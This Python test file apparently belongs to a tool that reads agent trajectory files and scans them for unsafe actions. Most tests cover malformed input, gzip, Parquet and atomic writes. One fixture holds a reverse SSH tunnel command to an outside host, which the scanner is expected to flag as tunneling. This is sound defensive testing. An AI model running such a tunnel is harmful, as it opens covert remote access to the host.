"""Bad input gets a clear reason in invalid/, the run goes on, and nothing is lost."""
import gzip
import json
from pathlib import Path

import orjson
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from safefilter import Scanner
from safefilter.errors import InputError
from safefilter.io import ShardWriter, expand_inputs, read_file

from conftest import bash, tool, traj


def write_lines(path, lines: list[bytes], final_newline=True):
    path.write_bytes(b"\n".join(lines) + (b"\n" if final_newline else b""))
    return path


def test_jsonl_problems_each_get_a_reason(tmp_path):
    good = json.dumps(traj(bash("ls"))).encode()
    path = write_lines(tmp_path / "in.jsonl", [
        good, b"", b"   ", b'{"id": "x", "messages": [', b'{"id": "bad\xff\xfe", "messages": []}', good,
        b'{"id": "t", "messages": [{"role": "user"',
    ], final_newline=False)
    items = list(read_file(path))
    assert [i.line for i in items] == [1, 4, 5, 6, 7]  # empty lines are skipped, line numbers kept
    assert items[0].error is None and items[0].raw == good
    assert "not valid JSON" in items[1].error
    assert "not valid UTF-8" in items[2].error and "byte" in items[2].error
    assert items[4].error.startswith("truncated last line")


def test_gzip_and_truncated_gzip(tmp_path):
    records = [json.dumps(traj(bash(f"echo {i}"), rid=f"r{i}")).encode() for i in range(50)]
    path = tmp_path / "in.jsonl.gz"
    path.write_bytes(gzip.compress(b"\n".join(records) + b"\n"))
    assert [i.record["id"] for i in read_file(path)] == [f"r{i}" for i in range(50)]
    cut = tmp_path / "cut.jsonl.gz"
    cut.write_bytes(path.read_bytes()[: len(path.read_bytes()) // 2])
    items = list(read_file(cut))
    assert items[-1].error and "could not be read" in items[-1].error
    assert all(i.error is None for i in items[:-1])


def test_parquet_and_json_documents(tmp_path):
    rows = [{"id": "p1", "messages": [{"role": "user", "content": "hi"}], "reward": 0.5}]
    pq.write_table(pa.Table.from_pylist(rows), tmp_path / "a.parquet")
    (tmp_path / "b.traj").write_text(json.dumps({"trajectory": [{"action": "ls"}]}, indent=2))
    (tmp_path / "c.json").write_text(json.dumps([traj(bash("ls"), rid="j1"), traj(bash("pwd"), rid="j2")]))
    files = expand_inputs(str(tmp_path))
    assert [f.name for f in files] == ["a.parquet", "b.traj", "c.json"]
    p, b, *c = [i for f in files for i in read_file(f)]
    assert p.record["reward"] == 0.5 and p.record["id"] == "p1"
    assert b.whole_file and b.record["trajectory"][0]["action"] == "ls"
    assert [i.record["id"] for i in c] == ["j1", "j2"] and [i.line for i in c] == [1, 2]


def test_expand_inputs_errors_say_what_to_do(tmp_path):
    with pytest.raises(InputError, match="does not exist"):
        expand_inputs(str(tmp_path / "missing.jsonl"))
    with pytest.raises(InputError, match="matches no files"):
        expand_inputs(str(tmp_path / "*.jsonl"))
    (tmp_path / "notes.txt").write_text("x")
    with pytest.raises(InputError, match="has no"):
        expand_inputs(str(tmp_path))


def test_glob_is_sorted_and_deduplicated(tmp_path):
    for name in ("b.jsonl", "a.jsonl"):
        (tmp_path / name).write_text("{}\n")
    files = expand_inputs([str(tmp_path / "*.jsonl"), str(tmp_path / "a.jsonl")])
    assert [f.name for f in files] == ["a.jsonl", "b.jsonl"]


def test_fifty_megabyte_tool_output_is_read_and_scanned(tmp_path):
    scanner = Scanner.from_rules([str(Path(__file__).parent / "data" / "mini_pack.yaml")])
    big = "line of compiler output without anything unusual\n" * (50 * 1024 * 1024 // 50)
    record = traj(bash("make", "m"), tool(big, "m"), bash("ssh -fNR 9000:localhost:22 u@203.0.113.9", "s"))
    path = tmp_path / "big.jsonl"
    path.write_bytes(orjson.dumps(record) + b"\n")
    (item,) = list(read_file(path))
    verdict = scanner.scan(item.record)
    assert verdict.unsafe and verdict.categories == ("tunneling",)


def test_writer_is_atomic(tmp_path):
    writer = ShardWriter(tmp_path / "clean" / "part-0.jsonl")
    writer.write_bytes(b'{"a": 1}')
    assert not (tmp_path / "clean" / "part-0.jsonl").exists()  # only the hidden temporary exists
    writer.abort()
    assert list((tmp_path / "clean").iterdir()) == []
    writer = ShardWriter(tmp_path / "clean" / "part-0.jsonl")
    writer.write_bytes(b'{"a": 1}')
    writer.close()
    assert (tmp_path / "clean" / "part-0.jsonl").read_bytes() == b'{"a": 1}\n'
